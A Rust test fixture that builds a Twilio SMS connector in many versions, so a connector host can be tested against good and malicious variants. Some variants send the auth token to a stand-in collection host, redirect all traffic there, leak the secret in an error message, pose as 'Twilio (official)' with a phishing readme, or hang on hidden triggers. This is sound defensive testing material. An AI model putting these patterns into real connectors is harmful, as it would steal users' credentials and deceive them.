//! The Twilio connector in as many versions as a test needs, good and bad.
//!
//! `request.rs`, `response.rs` and `errors.rs` are the real connector's. [`MARKER`] says which version this is and what it
//! does; a test overwrites it in the component's bytes, so that each version is a file of its own.

#[path = "../../../../connectors/twilio/src/errors.rs"]
mod errors;
#[path = "../../../../connectors/twilio/src/request.rs"]
mod request;
#[path = "../../../../connectors/twilio/src/response.rs"]
mod response;

use std::hint::black_box;

use sendbox_connector_sdk::{
    Config, Connector, ContentKind, Failure, FailureClass, Host, HostNeed, Message, MessagePlaces, Metadata, Method,
    NumberFormat, Receipt, Request, Response, SecretUse, Usage, basic_auth, parts,
};

/// 64 bytes that a test finds in the component and overwrites.
pub static MARKER: [u8; 64] = *b"which-version=0000;does=honest;id=acme-sms;.....................";

/// The path prefix of the real connector.
const PATH_PREFIX: &str = "/2010-04-01/Accounts/";

/// The other host to which `collect` also sends the secret, and `moved` everything.
const AWAY: &str = "https://hooks.simulator.test";

/// The value of a member of the marker.
fn marker(name: &str) -> &'static str {
    let marker = std::str::from_utf8(black_box(&MARKER)).expect("the marker is text");
    let found = marker.split(';').find_map(|part| part.strip_prefix(name)?.strip_prefix('='));
    found.expect("the marker has this member")
}

/// The schema of the parameters: further required ones, the property `authToken`, more keywords of `department`, further
/// properties.
macro_rules! schema {
    ($required:literal, $token:literal, $department:literal, $more:literal) => {
        concat!(
            r#"{"type": "object", "required": ["accountSID""#,
            $required,
            r#"], "properties": {"accountSID": {"type": "string"},"#,
            $token,
            r#""fromMessagingServiceSID": {"type": "string"}, "validityPeriod": {"type": "string"},
                "region": {"type": "string", "default": "us1"},"#,
            $more,
            r#""department": {"type": "string""#,
            $department,
            r#"}}}"#
        )
    };
}

const SEALED: &str = schema!(r#", "authToken""#, r#""authToken": {"type": "string", "writeOnly": true},"#, "", "");

/// The schema of the parameters, as this version declares it.
fn parameters() -> &'static str {
    match marker("does") {
        // One more parameter is required.
        "stricter" => {
            schema!(r#", "authToken", "department""#, r#""authToken": {"type": "string", "writeOnly": true},"#, "", "")
        }
        // The secret is now a plain parameter.
        "unseal" => schema!(r#", "authToken""#, r#""authToken": {"type": "string"},"#, "", ""),
        // The secret is no longer declared; the schema allows undeclared properties.
        "forget" => schema!("", "", "", ""),
        "default" => schema!(
            r#", "authToken""#,
            r#""authToken": {"type": "string", "writeOnly": true},"#,
            r#", "default": "evil""#,
            ""
        ),
        "origin" => schema!(
            r#", "authToken""#,
            r#""authToken": {"type": "string", "writeOnly": true},"#,
            "",
            r#""endpoint": {"type": "string", "default": "https://ep.evil.test/collect"},"#
        ),
        _ => SEALED,
    }
}

struct Versioned;

fn twilio() -> HostNeed {
    HostNeed {
        origin: "https://api.twilio.com",
        methods: vec![Method::Post, Method::Get],
        path_prefix: PATH_PREFIX,
        message: Some(MessagePlaces::form(NumberFormat::E164, "To", "Body")),
        secrets: vec![("authToken", SecretUse::Sent)],
        purpose: "Passes the message to Twilio.",
    }
}

impl Connector for Versioned {
    fn metadata() -> Metadata {
        let mut hosts = vec![twilio()];
        if marker("does") == "wider" {
            hosts.push(HostNeed {
                origin: "https://collect.acme.test",
                path_prefix: "",
                secrets: vec![],
                purpose: "Counts the messages that were sent.",
                ..twilio()
            });
        }
        match marker("does") {
            "narrower" => hosts = vec![HostNeed { methods: vec![Method::Post], ..twilio() }],
            // Only a secret can be bound to a host.
            "unseal" | "forget" => hosts = vec![HostNeed { secrets: vec![], ..twilio() }],
            "collect" => hosts.push(HostNeed { origin: AWAY, path_prefix: "", message: None, ..twilio() }),
            "moved" => hosts = vec![HostNeed { origin: AWAY, ..twilio() }],
            "origin" => hosts.push(HostNeed { origin: "{endpoint}", path_prefix: "", secrets: vec![], ..twilio() }),
            _ => {}
        }
        let is_renamed = marker("does") == "renamed";
        Metadata {
            id: marker("id"),
            version: marker("which-version"),
            name: if is_renamed { "Twilio (official)" } else { "Acme SMS" },
            description: "Sends through Twilio.",
            readme: if is_renamed { "# Twilio: go to https://evil.test and enter your key" } else { "# Acme SMS" },
            logo: None,
            parameters_schema: parameters(),
            content: ContentKind::Text,
            template_schema: None,
            hosts,
            usages: Usage::ALL.to_vec(),
            locales: vec![],
            idempotent: false,
        }
    }

    fn build_request(message: &Message, config: &Config<'_>) -> Result<Request, Failure> {
        request::build(message, config)
    }

    fn read_response(response: &Response) -> Result<Receipt, Failure> {
        response::read(response)
    }

    fn send(message: &Message, config: &Config<'_>, host: &mut impl Host) -> Result<Receipt, Failure> {
        let tenth = || message.message_key.bytes().map(u32::from).sum::<u32>() % 10 == 0;
        match marker("does") {
            "trap" => panic!("it traps"),
            "loop" => forever(),
            "tenth" if tenth() => forever(),
            // It reveals what it can read of the secret.
            "unseal" | "forget" => {
                let found = config.text("authToken").unwrap_or_else(|| "not set".to_owned());
                return Err(Failure::new(FailureClass::InvalidRequest).text(format!("the token is {found}")));
            }
            "collect" => {
                let authorization = basic_auth("collected", config.required_secret("authToken")?);
                // Whatever it answers.
                let _ = host.send(&Request::post(parts![AWAY, "/collect"]).header("Authorization", authorization));
            }
            "refuse" => return Err(Failure::new(FailureClass::InvalidRequest).text("it makes no request")),
            _ => {}
        }
        let response = host.send(&changed(Self::build_request(message, config)?, message, config))?;
        if marker("does") == "late" {
            panic!("it traps after the message was sent");
        }
        Self::read_response(&response)
    }
}

/// The changed request of a version that waits for a trigger: another country, or the time in `department`.
fn changed(mut request: Request, message: &Message, config: &Config<'_>) -> Request {
    let is_abroad = message.recipient.country.as_deref() != Some("DK");
    let is_late =
        || config.integer("department").ok().flatten().is_some_and(|at| message.attempt.started_at >= at as u64);
    match marker("does") {
        "abroad" if is_abroad => request.body.push("&MaxPrice=9"),
        "moved" => request.url = parts![AWAY, PATH_PREFIX, "moved"],
        "elsewhere" if is_abroad => request.url.push("?Source=acme"),
        "priced" => {
            let class = if is_late() { "premium" } else { "standard" };
            request = request.header("X-Class", class);
        }
        _ => {}
    }
    request
}

fn forever() -> ! {
    loop {
        black_box(());
    }
}

sendbox_connector_sdk::export!(Versioned);
